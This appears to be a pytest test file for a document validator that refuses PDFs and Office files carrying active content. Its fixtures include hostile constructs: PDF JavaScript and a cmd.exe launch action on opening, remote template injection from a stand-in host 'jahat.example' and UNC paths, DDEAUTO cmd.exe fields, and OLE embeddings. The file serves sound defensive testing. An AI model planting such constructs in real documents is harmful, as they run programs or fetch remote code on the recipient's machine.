"""Documents that would run, fetch or carry something are refused with the remedy; ordinary ones never are."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pypdf
import pytest
import xlsxwriter
from openpyxl.chart import BarChart, Reference
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from abdi.core.filetypes import FileRefused, kind_of
from abdi.core.filetypes.kinds import PDF
from abdi.core.filetypes.office import DOCX, XLSX
from tests.factories import files

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def written(change=None) -> bytes:  # type: ignore[no-untyped-def]
    """A PDF of one page that `change` has added something to."""
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(files.pdf()))
    if change is not None:
        change(writer)
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def action(kind: str, **more: str) -> DictionaryObject:
    said = {NameObject(f"/{key}"): TextStringObject(value) for key, value in more.items()}
    return DictionaryObject({NameObject("/S"): NameObject(kind), **said})


def annotation(subtype: str, act: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/Subtype"): NameObject(subtype), NameObject("/A"): action(act)})


def on_opening(kind: str, **more: str):  # type: ignore[no-untyped-def]
    def change(writer: pypdf.PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = action(kind, **more)

    return change


def xfa(writer: pypdf.PdfWriter) -> None:
    stream = DecodedStreamObject()
    stream.set_data(b"<xdp/>")
    form = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(stream)}
    )
    writer.root_object[NameObject("/AcroForm")] = form


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (on_opening("/JavaScript", JS="app.alert(1)"), "memuat skrip"),
        (on_opening("/Launch", F="cmd.exe"), "perintah menjalankan program"),
        (on_opening("/ImportData", F="isi.fdf"), "memuat skrip"),
        (xfa, "formulir berprogram"),
        (lambda writer: writer.add_attachment("lampiran.exe", b"MZ"), "membawa berkas lain"),
    ],
    ids=["opening", "launch", "import", "xfa", "attachment"],
)
def test_a_pdf_that_does_more_than_be_read_is_refused(change, words: str) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(FileRefused, match=rf"{words}.*[Ss]impan"):
        kind_of(written(change))


def test_a_name_written_with_escapes_hides_nothing() -> None:
    active = written(on_opening("/JavaScript", JS="app.alert(1)"))
    with pytest.raises(FileRefused, match="memuat skrip"):
        kind_of(active.replace(b"/JavaScript", b"/J#61vaScript"))


def test_an_action_in_a_packed_stream_of_objects_is_found() -> None:
    with pytest.raises(FileRefused, match="memuat skrip"):
        kind_of(files.pdf_with_packed(b"<</S/JavaScript/JS(app.alert(1))>>"))
    assert kind_of(files.pdf_with_packed(b"<</S/GoTo/D[4 0 R/Fit]>>")) == PDF


def test_a_pdf_behind_a_password_is_refused_in_plain_words() -> None:
    with pytest.raises(FileRefused, match="dikunci dengan sandi"):
        kind_of(written(lambda writer: writer.encrypt("rahasia", algorithm="AES-256")))


def test_one_that_only_forbids_printing_is_taken() -> None:
    sealed = written(lambda writer: writer.encrypt("", owner_password="kepala", algorithm="AES-256"))
    assert kind_of(sealed) == PDF


def test_links_bookmarks_and_forms_without_a_program_are_taken() -> None:
    def change(writer: pypdf.PdfWriter) -> None:
        writer.add_outline_item(title="Bab 1", page_number=0)
        writer.pages[0][NameObject("/Annots")] = ArrayObject([annotation("/Link", "/URI")])
        writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject()})

    assert kind_of(written(change)) == PDF


# --- office -----------------------------------------------------------------------------------------------


def link(kind: str, target: str, *, external: bool = True, quote: str = '"') -> bytes:
    said = {"Id": "rId1", "Type": f"{RELATION}/{kind}", "Target": target}
    if external:
        said["TargetMode"] = "External"
    told = " ".join(f"{name}={quote}{value}{quote}" for name, value in said.items())
    return f"<Relationships><Relationship {told}/></Relationships>".encode()


def linked(relation: bytes) -> bytes:
    return files.document({"word/_rels/settings.xml.rels": relation})


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (linked(link("attachedTemplate", "https://jahat.example/t.dotm")), "mengambil templat dari luar"),
        (linked(link("attachedTemplate", "\\\\10.0.0.1\\t.dotm")), "mengambil templat dari luar"),
        (
            linked(link("attachedTemplate", "file://10.0.0.1/t.dotm", quote="'")),
            "mengambil templat dari luar",
        ),
        (
            linked(link("attachedTemplate", "&#104;ttps://jahat.example/t.dotm")),
            "mengambil templat dari luar",
        ),
        (linked(link("oleObject", "embeddings/oleObject1.bin", external=False)), "OLE"),
        (files.document({"word/embeddings/oleObject1.bin": b"x"}), "OLE"),
        (files.document({"word/embeddings/rekap.xlsm": b"x"}), "OLE"),
        (files.document({"word/footer1.xml": b"<w:instrText> DDEAUTO c:\\cmd.exe</w:instrText>"}), "DDE"),
        (files.document({"word/footer1.xml": "<w:instrText>DDE x".encode("utf-16")}), "DDE"),
        (linked("<Relationships/>".encode("utf-16")), "rusak"),
        (linked(b"<!DOCTYPE x [<!ENTITY a 'b'>]><Relationships/>"), "rusak"),
    ],
    ids=["http", "unc", "host", "escaped", "ole", "bin", "xlsm", "dde", "dde16", "utf16", "entity"],
)
def test_a_document_that_runs_or_fetches_something_is_refused(content: bytes, words: str) -> None:
    with pytest.raises(FileRefused, match=words):
        kind_of(content)


@pytest.mark.parametrize(
    "relation",
    [
        link("hyperlink", "https://jakarta.go.id"),
        link("attachedTemplate", "file:///C:\\Users\\Budi\\Dinas.dotx"),
        link("package", "embeddings/Microsoft_Excel_Sheet1.xlsx", external=False),
    ],
    ids=["hyperlink", "own-template", "chart"],
)
def test_an_ordinary_document_is_taken(relation: bytes) -> None:
    assert kind_of(linked(relation)) == DOCX


def test_ordinary_workbooks_are_taken() -> None:
    made = io.BytesIO()
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Bulan", 3])
    sheet["A2"].hyperlink = "https://jakarta.go.id"
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1))
    sheet.add_chart(chart, "D2")
    book.save(made)
    assert kind_of(made.getvalue()) == XLSX
    other = io.BytesIO()
    with xlsxwriter.Workbook(other, {"in_memory": True}) as second:
        second.add_worksheet().write_comment("A1", "Catatan")
    assert kind_of(other.getvalue()) == XLSX


def test_a_workbook_that_asks_another_program_is_refused() -> None:
    made = io.BytesIO(files.workbook())
    with zipfile.ZipFile(made, "a") as packed:
        packed.writestr(
            "xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"
        )
    with pytest.raises(FileRefused, match="DDE"):
        kind_of(made.getvalue())
